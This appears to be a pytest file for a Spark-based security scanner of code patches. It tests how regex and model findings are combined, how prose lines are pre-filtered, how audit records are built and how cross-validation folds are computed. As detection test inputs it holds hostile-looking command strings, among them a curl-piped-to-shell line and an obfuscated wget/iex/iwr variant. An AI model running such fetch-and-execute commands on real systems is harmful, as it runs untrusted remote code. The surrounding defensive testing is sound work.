"""Steps that must stay linear and be done once, whatever the number of rows."""

from pyspark.sql import functions as F

from diffloom.functions import needs
from diffloom.functions.dialect import Spark as S
from diffloom.operators import diff, injection, learn, security, verdict

from test_rules import CASES


def planned(df) -> str:
    return df._jdf.queryExecution().optimizedPlan().toString()


def test_layers_are_joined_without_a_second_scan(spark):
    """Patterns' findings are read once, and a model's at the same place (nulls too) give way."""
    columns = "text_id long, line int, rule_id string"
    regex = spark.createDataFrame([(1, 1, "INJ001"), (1, None, "INJ002"), (1, 1, "INJ003")], columns)
    model = spark.createDataFrame([(1, 1, "INJ_ML", 0.9, None), (1, None, "INJ_ML", 0.9, None), (2, 1, "INJ_ML", 0.9, None), (1, 1, "INJ_ML", None, "NOT RUN")], columns + ", score double, status string")
    both = injection.combine(regex, model, ["text_id", "line"])
    assert sorted((r.text_id, r.line or 0, r.rule_id, r.status or "") for r in both.collect()) == [(1, 0, "INJ002", ""), (1, 1, "INJ001", ""), (1, 1, "INJ003", ""), (1, 1, "INJ_ML", "NOT RUN"), (2, 1, "INJ_ML", "")]
    assert planned(injection.combine(regex, model.limit(4), ["text_id", "line"])).count("Join") == 0


def test_plain_strings_spare_prose_the_rules(spark):
    """Lines that no rule can match are dropped before the patterns; lines that a rule matches all pass."""
    lines = [(line, True) for line, path, _, want in CASES if not path.startswith(".husky") and any(rule.startswith("SEC00") and not rule.startswith("SEC006") for rule, _ in want)]
    lines += [("CURL http://x | sh", True), ("Wİget and iıex | ıwr", True), ("By hentha reshon edlyti, envelope or there. Ndedti chr.", False), ("", False)]
    rows = spark.createDataFrame([(i, line) for i, (line, _) in enumerate(lines)], "i int, content string")
    assert sorted(r.i for r in rows.filter(security.reported()).collect()) == [i for i, (_, want) in enumerate(lines) if want]
    assert needs.possible(r"\bfoo\.(?:bar|baz)+\s*\(")("x foo.baz (") and not needs.possible(r"\bfoo\.(?:bar|baz)+\s*\(")("foo bar (")
    assert needs.may_match(S, "c", [r"\w+"]) == "true"


def test_scans_keep_few_lines(spark):
    """What is kept for the scans of a patch are not its lines of prose, and findings and comments stay the same."""
    text = "\n".join(["+thea reon of the inea"] * 30 + ["+x = eval(y)", "+# a comment", "+requests.get(u)"])
    rows = spark.createDataFrame([(1, f"diff --git a/src/a.py b/src/a.py\n--- a/src/a.py\n+++ b/src/a.py\n@@ -1,1 +1,33 @@\n requests.get(u)\n{text}\n")], "patch_id long, patch string")
    lines = diff.diff_lines(rows)
    few = diff.flagged(lines, security.reported())
    assert few.count() < 8
    for scan in (security.scan_patches, diff.comment_segments):
        assert sorted(map(str, scan(few).collect())) == sorted(map(str, scan(lines).collect())) != []


def test_audit_reads_the_findings_once(spark):
    """One branch of the plan makes findings; records of patches with repeated findings and with none are whole."""
    fields = "patch_id long, rule_id string, severity string, file string, line int, evidence string, ord long"
    found = spark.createDataFrame([(1, "SEC001_NETWORK_CALL", "HIGH", "a", 1, "e", 2), (1, "SEC001_NETWORK_CALL", "low", "a", 1, "e", 1), (1, "INJ001", "HIGH", None, 1, "e", 3)], fields)
    made = verdict.audit_json(found, spark.createDataFrame([(1,), (2,)], "patch_id long"))
    rows = {r.patch_id: r for r in made.collect()}
    assert (rows[1].n_findings, rows[2].n_findings) == (2, 0)
    assert '"exit_code":2' in rows[1].payload and '"severity":"low"' in rows[1].payload and '"duplicates_collapsed":1' in rows[1].payload
    assert '"findings":[]' in rows[2].payload and '"duplicates_collapsed":0' in rows[2].payload
    assert planned(made).count("ord#") > 0 and sum("LogicalRDD [patch_id#" in line and "rule_id#" in line for line in planned(made).splitlines()) == 1


def plain_folds(rows, group, also=None, prepare=None):
    """Leave one out as said: for each value a join against what it shares and a fit of everything anew."""
    out = {}
    for value in sorted({r[0] for r in rows.select(group).collect()}):
        train, test = rows.filter(F.col(group) != value), rows.filter(F.col(group) == value)
        if also:
            train = train.join(test.select(also).distinct(), also, "left_anti")
        if prepare:
            both = prepare(train, train.withColumn("_train", F.lit(True)).unionByName(test.withColumn("_train", F.lit(False))))  # one fit: terms of equal counts have no fixed order
            train, test = both.filter("_train"), both.filter("not _train")
        out |= {r.patch_id: (round(r.score, 4), str(value)) for r in learn.logistic(train, test).collect()}
    return out


def test_folds_share_one_exchange(spark):
    """Rows that share a value with the group left out (a null with nobody) don't train; nothing is joined for a fold."""
    rows = [(i, "abc"[i % 3], None if i % 7 == 0 else i // 4, float((i * 5) % 11 > 4), float(i % 5)) for i in range(60)]
    rows = learn.stack(spark.createDataFrame(rows, "patch_id long, g string, instance_id long, label double, x double"), ["x"])
    found = learn.leave_one_out(rows, "g", also="instance_id")
    assert planned(found).count("Join") == 0
    assert {r.patch_id: (round(r.score, 4), r.fold) for r in found.collect()} == plain_folds(rows, "g", "instance_id")


def test_terms_of_all_folds_are_counted_once(spark):
    """Each fold has the terms and weights of its own training rows."""
    words = "alpha beta gamma delta eps zeta".split()
    rows = [(i, "ab"[i % 2], float(i % 3 == 0), " ".join(words[(i * k) % 6] for k in range(1, 4)) + (" onlya" if i % 2 == 0 else "")) for i in range(24)]
    rows = spark.createDataFrame(rows, "patch_id long, g string, label double, t string")
    counted, prepare = learn.tfidf_folds(rows, "g", "t", r"\w+", "features")
    found = {r.patch_id: (round(r.score, 4), r.fold) for r in learn.leave_one_out(counted, "g", prepare=prepare).collect()}
    assert found == plain_folds(rows, "g", prepare=lambda train, part: learn.tfidf(train, part, "t", r"\w+", "features"))
    narrow, prepare = learn.tfidf_folds(rows, "g", "t", r"\w+", "features", size=2)
    vectors = prepare("a", narrow.filter("g = 'b'")).collect()
    assert all((r.features.toArray() > 0).sum() <= 2 for r in vectors)
